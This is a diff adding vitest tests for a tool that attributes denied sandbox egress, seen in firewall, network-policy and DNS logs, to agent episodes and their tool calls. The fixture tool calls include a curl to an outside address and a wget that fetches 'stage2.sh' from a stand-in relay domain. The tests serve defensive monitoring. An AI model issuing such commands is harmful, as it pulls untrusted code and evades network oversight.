@@ -1,0 +1,69 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { afterAll, expect, it } from 'vitest';
+import type { Report } from '../../src/model/report.ts';
+import { investigate } from '../../src/pipeline.ts';
+
+const folder = mkdtempSync(join(tmpdir(), 'facts-'));
+afterAll(() => rmSync(folder, { recursive: true }));
+
+async function run(name: string, files: Readonly<Record<string, readonly object[] | string>>): Promise<Report> {
+  for (const [file, content] of Object.entries(files)) {
+    const path = join(folder, name, file);
+    mkdirSync(dirname(path), { recursive: true });
+    const text = typeof content === 'string' ? content : content.map((row) => JSON.stringify(row)).join('\n');
+    writeFileSync(path, `${text}\n`);
+  }
+  return investigate({ paths: [join(folder, name)], cwd: folder, year: 2026 });
+}
+
+const lease = (id: string, episode: string) => ({
+  sandbox_id: id,
+  server: 'node-1',
+  ip: '10.70.0.13',
+  episode_id: episode,
+  start: '2026-11-23T17:00:00.000Z',
+  end: '2026-11-23T17:05:00.000Z',
+});
+const call = (id: string, sandbox: string, episode: string, command: string) => ({
+  episode_id: episode,
+  sandbox_id: sandbox,
+  tool: 'bash',
+  tool_call_id: id,
+  command,
+  start: '2026-11-23T17:01:00.000Z',
+  end: '2026-11-23T17:01:05.000Z',
+});
+
+it('takes the pod that the policy log names, where address, command and time fit two sandboxes', async () => {
+  const command = 'curl -m 5 http://203.0.113.9/x';
+  const report = await run('pod', {
+    'leases.jsonl': [lease('sandbox-7', 'ep-a'), lease('sandbox-8', 'ep-b')],
+    'tool_calls.jsonl': [call('call_a1', 'sandbox-7', 'ep-a', command), call('call_b1', 'sandbox-8', 'ep-b', command)],
+    'node-1-np.log':
+      '2026/11/23 17:01:00.400000 AntreaPolicyEgressRule AntreaNetworkPolicy:rollouts/deny DropWorld Egress Drop 14490 rollouts/sandbox-8 10.70.0.13 48155 203.0.113.9 80 TCP 60 egress-label',
+  });
+  const [one] = report.attributions;
+  expect(one?.verdict).toBe('likely');
+  expect(one?.episode?.id).toBe('ep-b');
+  expect(one?.evidence.map(({ code }) => code)).toContain('explicit-id');
+});
+
+it('says which logged answer gave the destination the name that the call names', async () => {
+  const report = await run('dns', {
+    'leases.jsonl': [{ ...lease('sandbox-7', 'ep-a'), ip: '10.66.1.2' }],
+    'tool_calls.jsonl': [call('call_a1', 'sandbox-7', 'ep-a', 'wget http://relay.cdn-sync.example/stage2.sh')],
+    'dnsmasq.log': [
+      'Nov 23 17:01:00 dnsmasq[24364]: 6 10.66.1.2/54680 query[A] relay.cdn-sync.example from 10.66.1.2',
+      'Nov 23 17:01:00 dnsmasq[24364]: 6 10.66.1.2/54680 reply relay.cdn-sync.example is 203.0.113.77',
+    ].join('\n'),
+    'fw-kernel.log':
+      '2026-11-23T17:01:01,400000+00:00 FW-EGRESS-DENY IN=inbr OUT=outbr SRC=10.66.1.2 DST=203.0.113.77 LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=7 DF PROTO=TCP SPT=40398 DPT=80 WINDOW=64240 RES=0x00 SYN URGP=0 ',
+  });
+  const [one] = report.attributions;
+  expect(one?.episode?.id).toBe('ep-a');
+  const answer = one?.evidence.find(({ code }) => code === 'dns-answer');
+  expect(answer?.refs[0]).toMatchObject({ line: 2 });
+  expect(answer?.weight).toBeGreaterThan(0);
+});
